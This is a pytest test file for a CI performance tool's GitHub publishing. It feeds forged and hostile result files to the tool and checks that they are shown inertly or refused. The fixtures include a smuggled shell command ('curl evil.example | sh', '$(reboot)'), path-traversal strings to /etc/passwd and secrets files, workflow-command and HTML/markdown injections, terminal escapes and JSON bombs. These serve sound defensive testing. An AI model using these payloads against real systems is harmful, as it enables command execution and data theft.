"""Results that were written by somebody who means harm, from the artifact to the page."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from perfgate.advice import Cause
from perfgate.errors import ExitCode
from perfgate.model import Level, Scope, Status, Verdict
from perfgate.publish.github import artifacts
from perfgate.publish.github.comment import memory
from perfgate.publish.github.sticky import sections
from perfgate.publish.reports.markdown import size
from perfgate.result import Result
from tests.github.fake import PULL
from tests.github.forking import HEAD, NEXT, PUBLISH, Following, archive_of, event, following, json_of, packed
from tests.github.test_comment import ALLOWED, TABLES, Page
from tests.publish.literals import BESIDE, FAILED, HOSTILE, P95, PASSED, QUIET, found, hostile

MORE = (
    f'<!-- perfgate:{{"attempt":99,"key":"api","run":99999,"sha":"{NEXT}"}} -->\n## ✅ perfgate (api): PASSED',
    f"x\n<!-- failed:{NEXT} fixed:{HEAD} -->\n",
    "```\n::set-output name=verdict::pass\n::stop-commands::x\n```\n::add-mask::a",
    "   ::save-state name=x::y",
    "fixes #1, closes octo/shop#2, GH-3, @octo/maintainers",
    "<details open><summary>PASSED</summary>",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1H\u2066hidden\u2069",
    "x` | `y\r\n| --- |\r\n~~~",
)
Document = dict[str, Any]


@pytest.fixture
def job(tmp_path: Path) -> Iterator[Following]:
    with following(tmp_path) as there:
        yield there


def upload(job: Following, content: bytes) -> None:
    job.hub.actions.upload("perfgate", packed(("perfgate.json", content)))


def judged(text: str) -> Result:
    """A hostile result that can be stored: of halves of characters, only escapes can."""
    result = hostile(text.encode("utf-8", "ignore").decode())
    return replace(result, run=replace(result.run, samples=result.run.samples[:1], flaws=(), base=""))


@pytest.mark.parametrize("text", [*HOSTILE, *MORE])
def test_hostile_text_is_shown_and_does_nothing(job: Following, text: str, capfd: pytest.CaptureFixture[str]) -> None:
    upload(job, json_of(judged(text)))
    assert job.publish(event(conclusion="failure")) is ExitCode.PASSED
    for told in (job.comment, job.check["output"]["summary"], job.summary.read_text(encoding="utf-8")):
        page = Page(told)
        assert set(page.tags) <= ALLOWED | TABLES
        assert page.attributes == set()
        assert all(link.startswith("https://github.test/octo/shop/") for link in page.links)
        assert not page.open
        assert "evil" not in "".join(page.links)
    assert memory(job.comment).failed == HEAD
    said = "\n".join(capfd.readouterr())
    assert not re.search(r"(?m)^\s*::|##\[|[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", said)


def test_half_a_character_is_shown_as_none(job: Following) -> None:
    upload(job, json_of(judged("HALF")).replace(b"HALF", rb"\ud800"))
    assert job.publish(event(conclusion="failure")) is ExitCode.PASSED
    assert "\ufffd" in job.comment


@pytest.mark.parametrize("text", MORE)
def test_hostile_text_stays_in_its_own_section(job: Following, text: str) -> None:
    job.hub.actions.upload("perfgate-web", archive_of(FAILED))
    job.publish(event(conclusion="failure"), PUBLISH._replace(key="web"))
    before = sections(job.comment)["web"]
    upload(job, json_of(judged(text)))
    assert job.publish(event(conclusion="failure")) is ExitCode.PASSED
    assert set(sections(job.comment)) == {"", "web"}
    assert sections(job.comment)["web"] == before


def test_a_hostile_branch_name_is_shown_and_does_nothing(job: Following) -> None:
    branch = "x`<img src=x>@octo/all|[a](http://evil.example)"
    job.hub.actions.pulls.clear()
    job.hub.actions.open_pull(PULL, f"stranger:{branch}", HEAD, source=777)
    job.hub.actions.upload("perfgate", archive_of(PASSED))
    assert job.publish(event(head_branch=branch)) is ExitCode.PASSED
    page = Page(job.comment)
    assert f"stranger:{branch}" in page.told
    assert "img" not in page.tags
    assert not any("evil" in link for link in page.links)


def test_commits_branch_and_base_that_a_file_claims_are_shown_nowhere(job: Following) -> None:
    claimed = replace(FAILED.run, commit=NEXT, branch="main", base="c" * 40)
    upload(job, json_of(replace(FAILED, run=claimed)))
    job.publish(event(conclusion="failure"))
    for told in (job.comment, job.check["output"]["summary"], str(sections(job.comment)[""])):
        assert NEXT[:7] not in told
        assert "ccccccc" not in told


def test_a_command_to_be_typed_has_no_words_of_a_stranger_in_it(job: Following) -> None:
    claimed = replace(FAILED.run, profile="ci; curl evil.example | sh", base="$(reboot)")
    upload(job, json_of(replace(FAILED, run=claimed)))
    job.publish(event(conclusion="failure"))
    told = Page(job.comment).told
    assert "On your machine: perfgate run --base main\n" in told
    assert "reboot" not in told
    assert "curl" not in told


@pytest.mark.parametrize(
    "rule", ["/etc/passwd.x:1", "../../secrets.yaml:1", "a/../../b.yaml:1", "services/../../../x.py:3", "C:\\x.yaml:1"]
)
def test_a_remark_never_stands_outside_of_the_repository(job: Following, rule: str) -> None:
    assert FAILED.verdict is not None
    findings = tuple(replace(finding, rule=rule) for finding in FAILED.verdict.findings)
    causes = (Cause("response.p95", Scope("browse"), ("slow", f"sent by {rule}")),)
    advice = tuple(replace(one, code=rule) for one in FAILED.advice)
    upload(
        job, json_of(replace(FAILED, verdict=replace(FAILED.verdict, findings=findings), causes=causes, advice=advice))
    )
    job.publish(event(conclusion="failure"))
    assert job.hub.annotations[job.check["id"]] == []


def test_a_file_of_ten_million_empty_lists_is_refused_before_it_is_read(job: Following) -> None:
    upload(job, json_of(PASSED).rstrip()[:-1] + b',"x":[' + b"[]," * 9_000_000 + b"[]]}")
    assert job.publish() is ExitCode.NOT_MEASURED
    assert "more values than can be told" in Page(job.comment).told


def test_so_many_remarks_are_cut_at_five_hundred(job: Following) -> None:
    findings = tuple(
        found(Status.FAIL, P95, Scope("browse", f"GET /{n}"), f"because {n}", n, 1.0, rule=f"budgets.yaml:{n + 1}")
        for n in range(3_000)
    )
    upload(job, json_of(Result(QUIET, Verdict(Status.FAIL, ExitCode.FAILED, findings))))
    assert job.publish(event(conclusion="failure")) is ExitCode.PASSED
    assert len(job.hub.annotations[job.check["id"]]) == 500


def test_the_caution_stays_on_top_however_much_is_piled_up_below_it(job: Following) -> None:
    causes = tuple(Cause("response.p95", Scope("browse", f"GET /{n}"), ("slow", "x" * 400)) for n in range(1_500))
    passed = replace(PASSED, causes=causes, run=replace(PASSED.run, loosened=("y" * 400,) * 1_500))
    job.hub.actions.upload("perfgate-api", archive_of(passed))
    job.publish(telling=PUBLISH._replace(key="api"))
    assert size(job.comment) <= 65_536 // 8
    assert "nobody here has reviewed" in Page(job.comment).told[:400]
    assert job.check["output"]["title"].endswith("1 unsure")
    assert job.check["conclusion"] == "neutral"


def forged(change: Callable[[Document], object], result: Result = FAILED) -> bytes:
    """The file of a result with something changed in it."""
    document: Document = json.loads(json_of(result))
    change(document)
    return json.dumps(document).encode()


def _says_pass(told: Document) -> None:
    told.update(verdict="pass", exit_code=0)


def _has_nothing_to_show(told: Document) -> None:
    told.update(verdict="pass", exit_code=0, findings=[])


def _is_not_judged(told: Document) -> None:
    told.update(verdict=None, exit_code=None)


def _repeats(key: str, count: int) -> Callable[[Document], object]:
    def change(told: Document) -> None:
        place = told if key in told else told["run"]
        place[key] = [(place[key] or ["x"])[0]] * count

    return change


_MILLION = b",".join([b'{"metric":"response.p95","scope":{}}'] * 1_000_000)
UNUSABLE = {
    "a pass over failures": (forged(_says_pass), "another verdict than its findings imply"),
    "a pass of nothing": (forged(_has_nothing_to_show), "another verdict than its findings imply"),
    "not judged": (forged(_is_not_judged), "was not judged"),
    "another schema": (forged(lambda told: told.update(schema=2)), "schema is 2"),
    "a verdict of its own": (forged(lambda told: told.update(verdict="<b>ok</b>")), "verdict"),
    "an exit code of its own": (forged(lambda told: told.update(exit_code=7)), "exit_code"),
    "text for a number": (forged(lambda told: told["findings"][0].update(observed="x")), "findings.0.observed"),
    "samples of nothing": (forged(lambda told: told["run"].update(metrics=[])), "do not describe"),
    "a million findings": (
        forged(lambda told: told.update(findings=[])).replace(b'"findings": []', b'"findings": [%s]' % _MILLION),
        "larger than 30 MB",
    ),
    "many findings": (forged(_repeats("findings", 50_001)), "more entries than can be told"),
    "many notes": (forged(_repeats("notes", 2_001)), "more entries than can be told"),
    "many steps": (
        forged(lambda told: told["causes"][0].update(steps=["x"] * 21)),
        "more entries than can be told",
    ),
    "a long text": (forged(lambda told: told["findings"][0].update(because="x" * 100_001)), "longer than 100000"),
    "a long key": (forged(lambda told: told["run"]["phases"].update({"x" * 100_001: 1})), "longer than 100000"),
    "a large number": (forged(lambda told: told["run"].update(seconds=1e19)), "larger than anything"),
    "a large whole number": (forged(lambda told: told["run"].update(seed=10**19)), "larger than anything"),
    "numbers without words": (
        forged(
            lambda told: told["run"].update(repeatability=[{"scenario": "x", "metric": "x", "sd": 1e9, "pairs": 2}])
        ),
        "numbers that make no sense together: OverflowError",
    ),
    "an endless whole number": (b'{"schema": ' + b"9" * 1_000_000 + b"}", "no usable JSON"),
    "an infinite number": (b'{"schema": 1, "x": 1e999}', "larger than anything"),
    "no number": (b'{"schema": 1, "x": NaN}', "larger than anything"),
    "a key twice": (b'{"schema": 1, "verdict": "fail", "verdict": "pass"}', "a key stands twice"),
    "depth": (b"[" * 1_000_000, "no usable JSON"),
    "depth that ends": (b'{"schema": 1, "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "no usable JSON"),
    "half a file": (json_of(FAILED)[:5_000], "no usable JSON"),
    "nothing": (b"", "no usable JSON"),
    "a list": (b"[]", "schema is None"),
    "null": (b"null", "schema is None"),
    "another encoding": (json_of(FAILED).decode().encode("utf-16"), "is no text"),
    "broken text": (b'{"schema": 1, "x": "\xff\xfe"}', "is no text"),
}


@pytest.mark.parametrize("name", UNUSABLE)
def test_a_file_that_cannot_be_believed_is_told_as_not_measured_with_the_reason(job: Following, name: str) -> None:
    content, reason = UNUSABLE[name]
    upload(job, content)
    assert job.publish() is ExitCode.NOT_MEASURED
    told = Page(job.comment).told
    assert told.strip().startswith("⚠️ perfgate: NOT MEASURED: ")
    assert reason in told
    assert job.check["conclusion"] == "failure"
    assert size(job.comment) < 5_000


def test_a_level_that_does_not_fit_its_status_is_not_the_way_to_a_green_check(job: Following) -> None:
    def change(told: Document) -> None:
        told.update(verdict="fail", exit_code=0)
        for finding in told["findings"]:
            finding["level"] = Level.INFO.value

    upload(job, forged(change))
    job.publish()
    assert job.check["conclusion"] == "neutral"


def test_a_reason_that_has_words_of_the_file_in_it_does_nothing_either(job: Following) -> None:
    text = "<img src=x> @octo/all [a](http://evil.example)\n::error::x"
    upload(job, forged(lambda told: told["run"]["loads"].update({text: {"users": "x"}})))
    assert job.publish() is ExitCode.NOT_MEASURED
    page = Page(job.comment)
    assert "<img src=x>" in page.told
    assert not any("evil" in link for link in page.links)


def test_a_download_without_end_is_broken_off(job: Following, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(artifacts, "LARGEST_ARCHIVE", 1_000_000)
    job.hub.actions.upload("perfgate", archive_of(PASSED))
    job.hub.actions.storage.endless = True
    assert job.publish() is ExitCode.NOT_MEASURED
    assert "larger than 1 MB" in Page(job.comment).told


def test_a_base_that_was_measured_is_still_compared_with(job: Following) -> None:
    upload(job, json_of(BESIDE))
    job.publish(event(conclusion="failure"))
    assert "| | Check | Base | Head | Change |" in job.comment
